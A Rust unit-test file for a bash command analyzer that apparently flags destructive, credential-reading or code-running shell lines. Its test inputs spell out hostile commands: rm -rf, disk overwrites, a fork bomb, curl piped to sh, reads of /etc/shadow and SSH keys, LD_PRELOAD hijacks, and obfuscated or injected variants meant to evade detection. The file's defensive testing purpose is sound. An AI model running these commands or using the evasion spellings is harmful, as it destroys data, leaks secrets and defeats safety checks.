use super::*;

fn cmds(src: &str) -> Vec<String> {
    analyze(src)
        .parts
        .iter()
        .filter_map(|p| match p {
            Part::Command(c) => Some(c.line_with_basename()),
            _ => None,
        })
        .collect()
}

fn opaque(src: &str) -> bool {
    analyze(src)
        .parts
        .iter()
        .any(|p| matches!(p, Part::Opaque { .. }))
}

/// The paths the command writes (`write`) or reads.
fn paths(src: &str, write: bool) -> Vec<String> {
    analyze(src)
        .parts
        .iter()
        .filter_map(|p| match (p, write) {
            (Part::Write { path, .. }, true) | (Part::Read { path, .. }, false) => {
                Some(path.text.clone())
            }
            _ => None,
        })
        .collect()
}

fn writes(src: &str) -> Vec<String> {
    paths(src, true)
}

fn reads(src: &str) -> Vec<String> {
    paths(src, false)
}

#[test]
fn splits_lists_pipelines_and_substitutions() {
    assert_eq!(
        cmds("git status && ls -la | grep x; echo $(whoami) > out.txt"),
        ["git status", "ls -la", "grep x", "whoami", "echo $(whoami)"]
    );
    assert_eq!(
        cmds("(cd a && make) || { echo no; }"),
        ["cd a", "make", "echo no"]
    );
    assert_eq!(
        cmds("diff <(sort a) <(sort b)"),
        ["sort a", "sort b", "diff <(sort a) <(sort b)"]
    );
    assert_eq!(writes("echo $(whoami) > out.txt"), ["out.txt"]);
}

#[test]
fn quoting_and_paths_are_normalized() {
    for src in [
        "rm -rf x",
        "/bin/rm -rf x",
        "\"rm\" -rf x",
        "r\\m -rf x",
        "'rm' \"-rf\" x",
        "$'\\x72m' -rf x",
    ] {
        assert_eq!(cmds(src), ["rm -rf x"], "{src}");
    }
}

#[test]
fn wrappers_are_stripped() {
    for src in [
        "sudo rm -rf x",
        "env -i FOO=1 rm -rf x",
        "timeout -s KILL 10 rm -rf x",
        "nice -n 5 nohup rm -rf x",
        "command rm -rf x",
        "exec rm -rf x",
        "sudo -u root -- rm -rf x",
        "time rm -rf x",
    ] {
        assert_eq!(cmds(src), ["rm -rf x"], "{src}");
    }
    assert_eq!(cmds("ls | xargs rm -f"), ["ls", "rm -f"]);
    assert_eq!(
        cmds("find . -name '*.o' -exec rm -f {} \\;"),
        ["find . -name *.o -exec rm -f {} ;", "rm -f {}"]
    );
}

#[test]
fn nested_shells_are_parsed() {
    assert_eq!(cmds("bash -c 'rm -rf x'"), ["bash -c rm -rf x", "rm -rf x"]);
    assert_eq!(
        cmds("sh -lc \"sudo sh -c 'rm -rf x'\"").last().unwrap(),
        "rm -rf x"
    );
    assert!(opaque("bash -c \"$CMD\""));
    assert!(opaque("eval 'ls'"));
    assert_eq!(cmds("eval 'rm -rf x'").last().unwrap(), "rm -rf x");
    assert_eq!(
        cmds("bash <<'EOF'\nrm -rf x\nEOF").last().unwrap(),
        "rm -rf x"
    );
}

#[test]
fn unresolvable_things_are_opaque() {
    assert!(opaque("$CMD -rf x"));
    assert!(opaque("$(echo rm) -rf x"));
    assert!(opaque("python3 -c 'import os'"));
    assert!(opaque("node -e 'x'"));
    assert!(opaque("perl -ne 'print'"));
    assert!(opaque("echo 'unterminated"));
    assert!(opaque("PATH=/tmp/evil:$PATH ls"));
    assert!(opaque("LD_PRELOAD=/tmp/x.so ls"));
    assert!(opaque("echo hi > $OUT"));
    assert!(!opaque("python3 -m pytest -q"));
    assert!(!opaque("cargo test 2>&1 | tail -n 20"));
}

#[test]
fn redirections_and_commands_that_write() {
    assert_eq!(writes("echo x >> ~/.bashrc"), ["~/.bashrc"]);
    assert_eq!(writes("cat a 2>/dev/null > b 2>&1"), ["b"]);
    assert_eq!(writes("echo x | tee -a f1 f2"), ["f1", "f2"]);
    assert_eq!(writes("cp a b c/"), ["c/", "c/a", "c/b"]);
    assert_eq!(writes("sed -i 's/a/b/' f.txt"), ["f.txt"]);
    assert_eq!(writes("dd if=/dev/zero of=/dev/sda"), ["/dev/sda"]);
    assert_eq!(writes("cat <<EOF > out\nhi\nEOF"), ["out"]);
}

#[test]
fn fork_bomb_and_feeds() {
    assert!(analyze(":(){ :|:& };:").fork_bomb);
    assert!(!analyze("f(){ echo hi; }; f").fork_bomb);
    let a = analyze("curl -s https://x.sh | sh");
    assert_eq!(a.feeds.len(), 1);
    let a = analyze("bash <(curl -s https://x.sh)");
    assert_eq!(a.feeds.len(), 1);
}

#[test]
fn deep_nesting_is_opaque_not_a_crash() {
    let deep = format!("{}ls{}", "(".repeat(20_000), ")".repeat(20_000));
    assert!(opaque(&deep));
    let subst = format!("echo {}x{}", "$(".repeat(5_000), ")".repeat(5_000));
    assert!(opaque(&subst));
    let exp = format!("echo {}x{}", "${a:-".repeat(5_000), "}".repeat(5_000));
    assert!(opaque(&exp));
    assert!(!opaque("( (ls) )"));
    // `((ls))` is arithmetic on the value of `ls`, which can run code (`ls='a[$(id)]'`).
    assert!(opaque("((ls))"));
}

#[test]
fn brace_expansions_are_dynamic_words() {
    for src in [
        "cat {.env,README.md}",
        "cat {.e,x}nv",
        "cat ~/.ssh/{id_rsa,config}",
    ] {
        let a = analyze(src);
        let Some(Part::Command(c)) = a.parts.first() else {
            panic!("{src}: {:?}", a.parts)
        };
        assert!(c.args()[0].dynamic, "{src}");
    }
}

#[test]
fn string_evaluation_is_inline_code() {
    for src in [
        "echo $((x))",
        "echo $[x]",
        "(( n + 1 ))",
        "let y=x+1",
        "[[ 1 -eq x ]]",
        "[[ $n -gt 0 ]]",
        "[[ -v 'a[$(id)]' ]]",
        "echo ${x@P}",
        "echo ${!x}",
        "echo ${a[i]}",
        "echo ${s:o:2}",
        "declare -i n",
        "declare -n r=x",
        "declare 'a[$(id)]=1'",
        "a[$i]=1",
        "printf -v 'a[$(id)]' x",
        "read 'a[$(id)]'",
        "unset 'a[$(id)]'",
        "test -v 'a[$(id)]'",
        "trap 'ls' EXIT",
        "complete -C id ls",
        "bind -x '\"\\C-a\":id'",
        "source x.sh",
        ". x.sh",
        "enable -f x.so x",
        "hash -p /tmp/x ls",
        "alias ls='id'",
        "command_not_found_handle() { :; }",
        "for ((i=n; i<3; i++)); do :; done",
        "a=([x]=1)",
    ] {
        assert!(opaque(src), "{src} is code");
    }
    for src in [
        "echo $((1 + 2 * 0x10))",
        "(( 3 > 2 ))",
        "[[ $x == y ]]",
        "[[ -f src/main.rs ]]",
        "[[ 2 -gt 1 ]]",
        "[[ -v name ]]",
        "echo ${x:-default} ${x:=d} ${#x} ${x%.rs} ${a[1]} ${a[@]} ${!a[@]} ${!pre*} ${s:1:2}",
        "echo ${x@Q}",
        "declare x=1",
        "export RUST_LOG=debug",
        "x=1; export x",
        "declare -x A=b C",
        "local y",
        "export -n X",
        "read -r line",
        "printf -v out '%s' x",
        "unset x",
        "test -f x",
        "alias",
        "a=(1 2) b=([0]=x [1]=y)",
        "for i in 1 2 3; do echo $i; done",
    ] {
        assert!(!opaque(src), "{src} is not code");
    }
}

#[test]
fn variables_the_line_assigns_are_recorded() {
    let a = analyze("f=src/a.rs; for g in x 'y z'; do read h; done; k=1 cmd");
    let names: Vec<(&str, Option<&str>)> = a
        .bindings
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_ref().map(|w| w.text.as_str())))
        .collect();
    for want in [
        ("f", Some("src/a.rs")),
        ("g", Some("x")),
        ("g", Some("y z")),
        ("h", None),
        ("k", None),
    ] {
        assert!(names.contains(&want), "{want:?} in {names:?}");
    }
}

#[test]
fn non_ascii_text_parses_with_its_own_bytes() {
    let a = analyze("cat 'héllo wörld' && rm -rf ~/日本");
    let lines: Vec<String> = a
        .parts
        .iter()
        .filter_map(|p| match p {
            Part::Command(c) => Some(c.line()),
            _ => None,
        })
        .collect();
    assert_eq!(lines, ["cat héllo wörld", "rm -rf ~/日本"]);
    // Code points the bash scanner cannot classify no longer crash the parser.
    let _ = analyze("echo $\u{10ffff}1 \u{e000}");
    let _ = analyze("x=\u{1F600}; echo ${x}\u{10FFFF}9");
}

#[test]
fn wrapper_options_come_from_their_models() {
    // `-S` glued after other flags still splits its string into the command.
    for src in [
        "env -iS'rm -rf x'",
        "env -vS 'rm -rf x'",
        "env --split-string='rm -rf x'",
        "env -S'rm -rf' x",
    ] {
        assert_eq!(
            cmds(src).last().map(String::as_str),
            Some("rm -rf x"),
            "{src}"
        );
    }
    assert!(opaque("env -S\"$X\""));
    assert_eq!(cmds("env -u HOME -a name -C /tmp rm -rf x"), ["rm -rf x"]);
    assert!(opaque("env --frobnicate ls"));
    assert_eq!(reads("xargs -a /etc/shadow cat"), ["/etc/shadow"]);
    assert_eq!(reads("xargs -0a/etc/shadow"), ["/etc/shadow"]);
    assert_eq!(cmds("xargs -I{} -0 rm -f {}"), ["rm -f {}"]);
    assert!(opaque("xargs --process-slot-var=BASH_ENV bash x"));
    assert!(!opaque(
        "find . -name '*.rs' | xargs -0 -n1 -P4 grep -n foo"
    ));
}

#[test]
fn modeled_programs_see_run_time_arguments() {
    // The files find and xargs hand over are unknown: a write of them is not a write of `{}`.
    for src in [
        "find ~ -type f -exec sed -i s/a/b/ {} \\;",
        "find . -name '*.rs' | xargs sed -i s/a/b/",
        "ls | xargs -I{} cp {} /tmp/x",
    ] {
        let a = analyze(src);
        assert!(
            a.parts.iter().any(
                |p| matches!(p, Part::Write { path, .. } | Part::Read { path, .. } if path.dynamic)
            ),
            "{src}: {:?}",
            a.parts
        );
        assert!(opaque(src), "{src}");
    }
    assert_eq!(writes("find . -name '*.o' -delete"), ["."]);
    assert_eq!(reads("sed -n 1p /etc/shadow"), ["/etc/shadow"]);
    assert_eq!(
        reads("sed '1r /etc/shadow' src/main.rs"),
        ["/etc/shadow", "src/main.rs"]
    );
    assert_eq!(writes("sort -o/root/.bashrc a"), ["/root/.bashrc"]);
    assert_eq!(writes("tar -czf out.tgz src"), ["out.tgz"]);
    assert!(opaque("sed 's@^@id@e' f"));
    assert!(opaque("tar -cf x.tar --checkpoint-action=exec=id src"));
    assert!(!opaque("tar -czf out.tgz src"));
    assert!(!opaque("sed -n '1,20p' src/main.rs"));
    assert!(!opaque("awk -F: '{print $1}' /etc/passwd"));
}

#[test]
fn unmodeled_programs_that_run_commands_are_code_whatever_the_spelling() {
    for src in [
        "ed -s src/a.rs <<< '!id'",
        "vim -c '!id' src/a.rs",
        "/usr/bin/nvim +'!id' f",
        "man -H'sh -c id' ls",
        "less src/a.rs",
        "m4 src/a.m4",
        "cpio -i < x.cpio",
        "7z x a.7z -o/root",
        "parallel id ::: a",
        "env vim -es src/a.rs",
        "find . -name x -exec vim -c '!id' {} +",
    ] {
        assert!(opaque(src), "{src}");
    }
    // Archives of both tar spellings go through the tar model.
    assert!(opaque("bsdtar -cf x.tar --use-compress-program=sh src"));
    assert!(!opaque("bsdtar -czf out.tgz src"));
}
